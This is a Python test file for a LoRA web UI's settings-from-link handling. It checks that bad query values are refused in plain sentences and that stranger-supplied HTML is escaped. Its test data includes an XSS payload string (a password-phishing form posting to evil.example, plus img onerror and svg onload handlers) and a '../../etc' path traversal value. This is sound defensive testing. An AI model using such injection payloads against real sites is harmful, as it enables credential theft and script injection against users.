"""What a link asks for and cannot have is refused in a sentence; what a stranger wrote is no HTML.

The page's first question to its server, as a browser sends it; how a browser shows the answer is in
`tests/browser/test_links.py`.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from lora_core.ui.settings import Settings
from tests.ui.strangers import page_served

MARKUP = (
    '<form id=evil action="http://evil.example/"><input name=password><button>Go</button></form>'
    "<img class=evil src='http://evil.example/x.png' onerror='window.evil=1'>"
    '"><svg class=evil onload="window.evil=1"></svg>'
)
SAID = {"task": "table|task", "base": "base", "targets": "layers"}  # by their labels


@pytest.fixture(scope="module")
def url() -> Iterator[str]:
    with page_served() as served:
        yield served


def warnings(url: str, query: dict[str, str]) -> list[str]:
    """What the page of this address warns of; HTML."""
    config = httpx.get(f"{url}/config", timeout=60).json()
    loads = [d for d in config["dependencies"] if any(e == "load" for _, e in d["targets"])]
    (load,) = [d for d in loads if len(d["outputs"]) == 1 + len(Settings.names())]
    session = f"visitor {hash(str(query))}"
    body: dict[str, Any] = {"data": [query, ""], "fn_index": load["id"], "session_hash": session}
    sent = httpx.post(f"{url}/gradio_api/queue/join", json=body, timeout=60)
    assert sent.status_code == 200
    said = []
    stream = f"{url}/gradio_api/queue/data?session_hash={session}"
    with httpx.stream("GET", stream, timeout=60) as answer:
        for line in answer.iter_lines():
            message = json.loads(line.removeprefix("data:")) if line.startswith("data:") else {}
            if message.get("msg") == "log":
                said.append(message["log"])
            if message.get("msg") == "process_completed":
                assert message["success"]
                break
    return said


@pytest.mark.parametrize("name", Settings.names())
def test_markup_in_a_setting_is_named_and_stays_text(url: str, name: str) -> None:
    (said,) = warnings(url, {name: MARKUP})
    assert re.search(SAID.get(name, name), said, re.IGNORECASE)
    assert ("Bring it again" if name == "task" else "defaults are used") in said
    assert "<" not in said and ("&lt;form" in said or "evil" not in said)


@pytest.mark.parametrize(
    ("query", "said"),
    [
        ({"base": "gpt9"}, "gpt9"),
        ({"base": "../../etc"}, "etc"),
        ({"targets": "nowhere"}, "nowhere"),
        ({"targets": "query,*"}, "*"),
        ({"scaling": "sideways"}, "scaling"),
        ({"head": "off"}, "head"),
        ({"method": "magic"}, "method"),
        ({"rank": "many"}, "rank"),
        ({"steps": "1e9"}, "1000000000"),
        ({"seed": "-5"}, "seed"),
        ({"alpha": "nan"}, "alpha"),
    ],
)
def test_what_a_link_asks_for_and_is_not_here_is_refused_in_words(
    url: str, query: dict[str, str], said: str
) -> None:
    (sentence,) = warnings(url, query)
    assert said in sentence and "defaults are used" in sentence


def test_a_link_that_asks_for_what_is_here_is_not_warned_of(url: str) -> None:
    assert warnings(url, {}) == []
    assert warnings(url, {"rank": "4", "alpha": "1.5", "task": "sentiment", "seed": "7"}) == []
